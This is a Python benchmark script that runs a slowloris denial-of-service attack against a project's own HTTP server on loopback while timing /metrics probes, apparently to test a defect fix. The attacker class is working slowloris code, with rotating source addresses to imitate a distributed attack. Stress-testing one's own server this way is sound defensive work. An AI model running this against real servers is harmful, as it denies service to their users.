#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Slowloris against pyprofd's HTTP server, with scrapes on the side.

Opens --connections connections that each send a request line and then one
header line every --interval seconds, never finishing the head; a
connection the server closes is opened again at the next round, as the
classic slowloris does. Meanwhile it sends --probes GET requests (default
/metrics), evenly spread over --duration seconds, each on a fresh
connection with a --probe-timeout, and reports how many were answered 200
and how fast. Python 3 standard library only.

    bench/http_slowloris.py --target 127.0.0.1:7979
    bench/http_slowloris.py --target 127.0.0.1:7979 --attack-source 127.0.0.2

--attack-source / --probe-source bind the two sides to local addresses (any
127.0.0.0/8 address works on Linux loopback) to play two clients; by
default both come from the same address, the hardest case for a
per-client limit. --attack-source takes a comma-separated list, used in
turn, to play a distributed attack; 127.0.1.1-127.0.1.50 expands to 50
addresses. Issue 11, defect 4; numbers in docs/http.md.
"""
import argparse
import http.client
import socket
import statistics
import sys
import threading
import time


def parse_target(s):
    host, _, port = s.rpartition(":")
    return host.strip("[]") or "127.0.0.1", int(port)


class Attacker(threading.Thread):
    def __init__(self, target, n, interval, sources):
        super().__init__(daemon=True)
        self.target, self.n, self.interval, self.sources = target, n, interval, sources
        self.socks = []
        self.stop = threading.Event()
        self.opened = 0
        self.closed_by_server = 0
        self.replies = {}  # status line -> count, of what the server said before closing
        self.open_samples = []

    def open_one(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            if self.sources:
                s.bind((self.sources[self.opened % len(self.sources)], 0))
            s.connect(self.target)
            s.sendall(b"GET /?slowloris HTTP/1.1\r\nHost: x\r\nUser-Agent: slowloris\r\n")
            s.setblocking(False)
            self.opened += 1
            return s
        except OSError:
            s.close()
            return None

    def alive(self, s, line):
        """Sends one more header line; False if the server has closed s."""
        try:
            data = s.recv(4096)
            if data or data == b"":
                if data:
                    status = data.split(b"\r\n", 1)[0].decode("latin-1")
                    self.replies[status] = self.replies.get(status, 0) + 1
                return False
        except BlockingIOError:
            pass
        except OSError:
            return False
        try:
            s.send(line)
            return True
        except OSError:
            return False

    def run(self):
        k = 0
        while not self.stop.is_set():
            line = b"X-Slow-%d: 1\r\n" % k
            k += 1
            keep = []
            for s in self.socks:
                if self.alive(s, line):
                    keep.append(s)
                else:
                    self.closed_by_server += 1
                    s.close()
            while len(keep) < self.n and not self.stop.is_set():
                s = self.open_one()
                if s is None:
                    break
                keep.append(s)
            self.socks = keep
            self.open_samples.append(len(keep))
            self.stop.wait(self.interval)
        for s in self.socks:
            s.close()


def parse_sources(spec):
    out = []
    for part in filter(None, spec.split(",")):
        lo, _, hi = part.partition("-")
        if not hi:
            out.append(lo)
            continue
        a, b = lo.rsplit(".", 1), hi.rsplit(".", 1)
        if a[0] != b[0]:
            raise SystemExit(f"{part}: a range may vary only the last number")
        out += [f"{a[0]}.{i}" for i in range(int(a[1]), int(b[1]) + 1)]
    return out


def probe(target, path, timeout, source):
    t0 = time.monotonic()
    try:
        c = http.client.HTTPConnection(
            target[0], target[1], timeout=timeout,
            source_address=(source, 0) if source else None)
        c.request("GET", path)
        r = c.getresponse()
        r.read()
        c.close()
        return r.status, time.monotonic() - t0, ""
    except (OSError, http.client.HTTPException) as e:
        return None, time.monotonic() - t0, type(e).__name__


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--target", default="127.0.0.1:7979")
    ap.add_argument("--connections", type=int, default=500)
    ap.add_argument("--interval", type=float, default=10.0, help="seconds between header lines")
    ap.add_argument("--duration", type=float, default=60.0)
    ap.add_argument("--probes", type=int, default=60)
    ap.add_argument("--probe-path", default="/metrics")
    ap.add_argument("--probe-timeout", type=float, default=5.0)
    ap.add_argument("--attack-source", default="")
    ap.add_argument("--probe-source", default="")
    ap.add_argument("--warmup", type=float, default=3.0,
                    help="seconds between starting the attack and the first probe")
    a = ap.parse_args()
    target = parse_target(a.target)

    att = Attacker(target, a.connections, a.interval, parse_sources(a.attack_source))
    att.start()
    time.sleep(a.warmup)
    print(f"attack: {a.connections} connections, one header line every {a.interval:g} s; "
          f"{len(att.socks)} open after {a.warmup:g} s", flush=True)
    results = []
    step = a.duration / a.probes
    start = time.monotonic()
    for i in range(a.probes):
        time.sleep(max(0.0, start + i * step - time.monotonic()))
        results.append(probe(target, a.probe_path, a.probe_timeout, a.probe_source))
    att.stop.set()
    att.join()

    ok = [t for st, t, _ in results if st == 200]
    fails = {}
    for st, _, why in results:
        if st != 200:
            key = str(st) if st else why
            fails[key] = fails.get(key, 0) + 1
    print(f"probes: {len(ok)}/{len(results)} answered 200 within {a.probe_timeout:g} s"
          + (f"; failures: {fails}" if fails else ""))
    if ok:
        ok.sort()
        p99 = ok[min(len(ok) - 1, int(len(ok) * 0.99))]
        print(f"latency: median {statistics.median(ok) * 1000:.1f} ms, "
              f"p99 {p99 * 1000:.1f} ms, max {ok[-1] * 1000:.1f} ms")
    print(f"attacker: opened {att.opened} connections, {att.closed_by_server} closed by the "
          f"server, open per round: min {min(att.open_samples)} max {max(att.open_samples)}")
    if att.replies:
        print("server replies to the attacker: "
              + ", ".join(f"{k!r} x{v}" for k, v in sorted(att.replies.items())))
    return 0 if len(ok) == len(results) else 1


if __name__ == "__main__":
    sys.exit(main())
